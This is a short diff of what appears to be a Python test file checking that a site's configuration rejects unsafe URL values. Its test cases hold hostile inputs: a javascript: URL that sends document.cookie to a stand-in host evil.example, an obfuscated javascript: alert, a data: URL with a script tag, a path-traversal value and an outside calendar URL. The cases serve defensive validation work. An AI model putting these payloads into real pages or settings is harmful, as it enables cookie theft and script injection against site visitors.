@@ -14,7 +14,7 @@ JS = "javascript:fetch('//evil.example/'+document.cookie)"
     ({"QUESTIONS": {"ask_chat_url": " JaVa\tscript:alert(1)"}}, "QUESTIONS['ask_chat_url']"),
     ({"QUESTIONS": {"ask_form_url": "data:text/html,<script>alert(1)</script>"}},
      "QUESTIONS['ask_form_url']"),
-    ({"SHELFCAST_THEME": {"MASTODON_SHARE_URL": JS}}, "SHELFCAST_THEME['MASTODON_SHARE_URL']"),
+    ({"SHELFCAST_THEME": {"mastodon_share_url": JS}}, "SHELFCAST_THEME['mastodon_share_url']"),
     ({"GALLERIES": {"url": "../../outside"}}, "GALLERIES['url']"),
     ({"EVENTS": {"calendar_save_as": "https://evil.example/events.ics"}},
      "EVENTS['calendar_save_as']"),
